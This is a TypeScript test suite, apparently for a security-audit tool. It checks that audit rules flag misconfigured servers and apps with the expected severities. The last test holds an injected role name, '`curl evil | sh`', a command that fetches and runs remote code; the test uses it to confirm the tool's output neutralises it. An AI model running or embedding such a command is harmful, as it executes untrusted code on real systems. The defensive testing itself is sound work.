import assert from 'node:assert/strict'
import { test } from 'node:test'
import { ORIGIN } from './asked.ts'
import { CHECKS, type CheckId } from './checks.ts'
import type { AppFacts, Network, Role, ServerFacts } from './facts.ts'
import type { Outcome } from './outcome.ts'
import { ANSWERED, APP, answer, DAY, listening, MACHINE, machine, NOW, SERVER } from './rule.fixture.ts'
import { ofApp } from './rule-app.ts'
import { ofServer } from './rule-server.ts'
import type { Severity } from './wire.ts'

const app = (more: Partial<AppFacts>): Outcome[] => ofApp({ ...APP, ...more })
const server = (more: Partial<ServerFacts>): Outcome[] => ofServer({ ...SERVER, ...more })
const found = (all: readonly Outcome[]) =>
  all.flatMap(({ check, severity, subject, said }) =>
    said.state === 'found' ? [{ check, severity, subject, what: said.what }] : [],
  )
const unseen = (all: readonly Outcome[]) =>
  all.flatMap(({ check, said }) => (said.state === 'unknown' ? [check] : []))

const front = (headers: Record<string, string | string[]>) => ({
  answers: { seen: { ...ANSWERED, fronts: [answer('/', { headers })] } },
})
const role = (more: Partial<Role>): Partial<AppFacts> => ({
  databases: [{ ...APP.databases[0]!, role: { seen: { ...ROLE, ...more } } }],
})
const ROLE = (APP.databases[0]!.role as { seen: Role }).seen
const NETWORK = (APP.network as { seen: Network }).seen
const SECRET = APP.secrets[0]!
const ADDRESS = APP.addresses[0]!
const OPEN = { firewall: { other: null, closing: [], live: null, confirmed: null } }
const exposing = (path: string, body: string) => ({
  answers: { seen: { ...ANSWERED, exposed: [answer(path, { body })] } },
})
const CREDENTIALS = { 'access-control-allow-credentials': 'true' }

/** Each check broken on purpose: what is found, how bad it is, and of what. */
const BROKEN: ReadonlyArray<[CheckId, Severity, string, Outcome[]]> = [
  [
    ...(['server.updates', 'high', 'the server'] as const),
    ofServer(
      machine({
        upkeep: { ...MACHINE.upkeep, updates: [{ package: 'ssl', from: '1', to: '2', security: true }] },
      }),
    ),
  ],
  ['server.unattended', 'medium', 'the server', ofServer(machine({}, { unattended: false }))],
  [
    'server.restart',
    'medium',
    'the server',
    ofServer(machine({ upkeep: { ...MACHINE.upkeep, restart: 'a kernel' } })),
  ],
  ['server.drift', 'medium', 'the server', ofServer(machine({ drift: ['/etc/x was changed'] }))],
  ['server.firewall', 'medium', 'the server', ofServer(machine({}, OPEN))],
  [
    'server.ports',
    'critical',
    'port 5432',
    ofServer(machine({ listening: [listening(5432, '/usr/bin/postgres -D x')] }, OPEN)),
  ],
  [
    'server.ports',
    'high',
    'port 8081',
    ofServer(machine({ listening: [listening(8081, 'node x', 'shop.web.blue.1')] }, OPEN)),
  ],
  [
    'server.ports',
    'low',
    'port 8081',
    ofServer(
      machine({ listening: [listening(8081, 'node x')] }, { firewall: { ...OPEN.firewall, other: 'ufw' } }),
    ),
  ],
  ['server.ports', 'high', 'port 9000', ofServer(machine({}, { docker: [{ container: 'x', port: 9000 }] }))],
  [
    ...(['server.ssh', 'high', 'the server'] as const),
    ofServer(machine({}, { ssh: { ports: [22], passwords: true, keys: true } })),
  ],
  ['server.walls', 'medium', 'the server', server({ walls: { root: false, ports: null, mounts: null } })],
  [
    'server.walls',
    'medium',
    'the server',
    server({ walls: { root: true, ports: 'no nftables', mounts: null } }),
  ],
  ['server.files', 'critical', 'the server', server({ files: { seen: ['/h/keeper.key'] } })],
  ['audit.seal', 'critical', 'the server', server({ audit: { seen: 7 } })],
  ['people.access', 'low', 'the server', server({ access: { seen: ['ann has not signed in'] } })],
  ['secrets.weak', 'high', 'JWT_SECRET', app({ secrets: [{ ...SECRET, weak: '5 characters' }] })],
  [
    'secrets.weak',
    'critical',
    'JWT_SECRET',
    app({ secrets: [{ ...SECRET, weak: 'a value that everybody tries first' }] }),
  ],
  ['secrets.plain', 'medium', 'JWT_SECRET', app({ secrets: [{ ...SECRET, plain: true }] })],
  ['secrets.old', 'low', 'JWT_SECRET', app({ secrets: [{ ...SECRET, since: NOW - 91 * DAY }] })],
  ['urls.password', 'critical', 'DATABASE_URL', app({ addresses: [{ ...ADDRESS, password: 'known' }] })],
  [
    'urls.password',
    'high',
    'DATABASE_URL',
    app({ addresses: [{ ...ADDRESS, password: 'none', place: 'here' }] }),
  ],
  ['urls.tls', 'high', 'DATABASE_URL', app({ addresses: [{ ...ADDRESS, tls: false }] })],
  ['urls.tls', 'medium', 'DATABASE_URL', app({ addresses: [{ ...ADDRESS, tls: false, place: 'near' }] })],
  [
    'web.https',
    'high',
    'b.example',
    app({ tls: { ...APP.tls, domains: [...APP.tls.domains, { name: 'b.example', covered: false }] } }),
  ],
  ['web.hsts', 'medium', 'shop', app(front({ 'strict-transport-security': 'max-age=0' }))],
  ['web.cors', 'critical', 'shop', app(front({ ...CREDENTIALS, 'access-control-allow-origin': ORIGIN }))],
  ['web.cors', 'medium', 'shop', app(front({ ...CREDENTIALS, 'access-control-allow-origin': '*' }))],
  ['web.cookies', 'medium', 'cookie sid', app(front({ 'set-cookie': ['sid=1; Path=/'] }))],
  ['web.sign-in', 'medium', '/login', app({ limits: [] })],
  ['web.sign-in', 'medium', '/login', app({ limits: [{ path: '/', perMinute: 6_000 }] })],
  ['web.exposed', 'critical', '/.env', app(exposing('/.env', 'KEY=1'))],
  ['web.exposed', 'medium', '/metrics', app(exposing('/metrics', '# HELP up'))],
  ['database.role', 'critical', 'DATABASE_URL', app(role({ superuser: true }))],
  ['database.role', 'high', 'DATABASE_URL', app(role({ powers: ['createrole', 'pg_read_server_files'] }))],
  ['database.role', 'low', 'DATABASE_URL', app(role({ owns: true }))],
  ['database.public', 'medium', 'DATABASE_URL', app(role({ everybody: { create: true, connect: false } }))],
  ['database.network', 'critical', 'shop', app({ network: { seen: { ...NETWORK, listens: ['*'] } } })],
  [
    ...(['database.network', 'critical', 'shop'] as const),
    app({
      network: { seen: { ...NETWORK, entrances: [{ kind: 'local', address: null, method: 'trust' }] } },
    }),
  ],
  [
    ...(['database.network', 'high', 'shop'] as const),
    app({
      network: {
        seen: { ...NETWORK, entrances: [{ kind: 'host', address: '0.0.0.0', method: 'scram-sha-256' }] },
      },
    }),
  ],
  [
    'app.root',
    'critical',
    'shop.web.blue.1',
    app({ programs: { seen: [{ service: 'shop.web.blue.1', user: 'root', root: true, capable: true }] } }),
  ],
  ['app.files', 'high', 'shop', app({ files: { seen: { folder: '/h/apps/shop', readable: ['shared/a'] } } })],
  [
    ...(['packages.holes', 'high', 'lodash 4.17.15'] as const),
    app({
      packages: { seen: [{ package: 'lodash', version: '4.17.15', title: 'x', severity: 'high', url: 'u' }] },
    }),
  ],
]

test('of a good server and app nothing is found, and everything was looked at', () => {
  const all = [...ofServer(SERVER), ...ofApp(APP)]
  assert.deepEqual(found(all), [])
  assert.deepEqual(unseen(all), [])
  assert.deepEqual(
    Object.keys(CHECKS).filter(id => !all.some(({ check }) => check === id)),
    [],
  )
})

test('each check finds what is broken on purpose, and nothing else', () => {
  for (const [check, severity, subject, outcomes] of BROKEN) {
    const all = found(outcomes)
    assert.deepEqual(
      all.map(one => [one.check, one.severity, one.subject]).filter(one => one[0] === check),
      [[check, severity, subject]],
    )
    const others = all.filter(one => one.check !== check && one.check !== 'server.firewall')
    assert.deepEqual(others, [], check)
  }
  const broken = new Set(BROKEN.map(([check]) => check))
  assert.deepEqual(
    Object.keys(CHECKS).filter(id => !broken.has(id as CheckId)),
    [],
  )
})

test('what could not be looked at is unknown, and never passed', () => {
  const not = { unseen: 'it does not answer' }
  const none = app({
    ...{ answers: not, network: not, programs: not, files: not, packages: not },
    databases: [{ ...APP.databases[0]!, ours: false, role: not }],
  })
  assert.deepEqual(unseen(none), [
    ...['web.hsts', 'web.cors', 'web.cookies', 'web.sign-in', 'web.exposed'],
    ...['database.role', 'database.public', 'database.network', 'database.network'],
    ...['app.root', 'app.files', 'packages.holes'],
  ])
  assert.deepEqual(unseen(server({ machine: not, audit: not, access: not, files: not })).slice(4), [
    'server.files',
    'audit.seal',
    'people.access',
  ])
  const stale = machine({ kept: null, upkeep: { ...MACHINE.upkeep, heard: null } })
  assert.deepEqual(unseen(ofServer(stale)), ['server.updates', 'server.drift'])
  const heard = new Date(NOW - 8 * DAY).toISOString()
  assert.deepEqual(unseen(ofServer(machine({ upkeep: { ...MACHINE.upkeep, heard } }))), ['server.updates'])
  assert.deepEqual(unseen(ofServer(machine({}, { root: false }))), ['server.firewall'])
  const behind = app({
    tls: { by: 'front', domains: [{ name: 'a.example', covered: false }], hstsFrom: null },
  })
  assert.deepEqual(unseen(behind), ['web.https', 'web.hsts'])
})

test('a page that answers whatever is asked shows nothing, and has no sign-in', () => {
  const page = { headers: { 'content-type': 'text/html' }, body: '<title>KEY=1</title>\nKEY=1' }
  const outcomes = app({
    limits: [],
    answers: {
      seen: {
        ...ANSWERED,
        exposed: [answer('/.env', page)],
        signIns: [answer('/login', page)],
        nowhere: [answer('/innkeeper-check-nowhere', { ...page, body: 'another' })],
      },
    },
  })
  assert.deepEqual(found(outcomes), [])
  assert.deepEqual(unseen(outcomes), ['web.sign-in'])
})

test('a firewall of set-up keeps visitors from what it does not name, and not from what it does', () => {
  const open = [listening(8081, 'node x'), listening(80, 'apache2')]
  assert.deepEqual(
    found(ofServer(machine({ listening: open }))).map(({ subject }) => subject),
    ['port 80'],
  )
  const wishes = { hardenSsh: true, open: [8081] }
  const meant = machine({ kept: { ...MACHINE.kept!, wishes }, listening: open.slice(0, 1) }, OPEN)
  assert.deepEqual(
    found(ofServer(meant)).map(({ check }) => check),
    ['server.firewall'],
    'a port that somebody named to set-up is meant',
  )
})

test('a limit that the app itself tells of is one', () => {
  const signIns = [answer('/login', { body: 'password?', headers: { 'ratelimit-limit': '5' } })]
  assert.deepEqual(found(app({ limits: [], answers: { seen: { ...ANSWERED, signIns } } })), [])
  const post = [answer('/login', { method: 'OPTIONS', body: 'POST', headers: { allow: 'POST' } })]
  const [one] = found(app({ limits: [], answers: { seen: { ...ANSWERED, signIns: post } } }))
  assert.equal(one?.check, 'web.sign-in')
})

test('what others wrote looks like no command, and tells no argument of a program', () => {
  const [one] = found(app(role({ superuser: true, name: '`curl evil | sh`' })))
  assert.equal(one?.what, 'the app asks its database as curl evil | sh, a superuser')
  const [other] = ofServer(machine({ listening: [listening(8081, 'x --password hunter2')] }, OPEN)).filter(
    ({ check }) => check === 'server.ports',
  )
  assert.doesNotMatch(JSON.stringify(other), /hunter2/)
})
